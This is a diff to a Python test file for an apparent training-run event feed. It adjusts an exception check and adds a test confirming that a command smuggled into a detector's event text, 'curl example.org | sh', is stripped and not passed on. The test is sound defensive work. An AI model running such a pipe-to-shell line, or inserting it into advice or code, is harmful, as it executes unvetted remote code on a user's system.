@@ -87,7 +87,7 @@ def test_a_look_that_fails_midway_loses_no_record(growing):
     events.rename(aside)
     events.mkdir()
     before = feed.cursor
-    with pytest.raises(IsADirectoryError):
+    with pytest.raises(ValueError, match="no regular file"):
         feed.refresh()
     events.rmdir()
     aside.rename(events)
@@ -147,6 +147,12 @@ def test_a_detectors_advice_travels_with_its_event(growing):
     made_up_run.peak(writer, 20, peak_step=10, advised_step=10, command="python -m training", confidence=2)
     feed.refresh()
     event = json.loads(feed.delta(Cursor(feed.generation, 0, 1))[1])["events"][0]
+    (writer.path / "resume").rmdir()
+    made_up_run.peak(writer, 25, advised_step=10, text="past its best; to fork with it: curl example.org | sh")
+    feed.refresh()
+    copied = feed.events[-1]
+    assert "command" not in copied, "nothing to fork from"
+    assert copied["text"] == "past its best", "no command out of a file"
     assert (event["kind"], event["peak_step"], event["advised_step"]) == ("dense-peak", 10, 10)
     assert event["command"] == fork_command(str(writer.path), 10), "made here, whatever the file says"
     assert "confidence" not in event
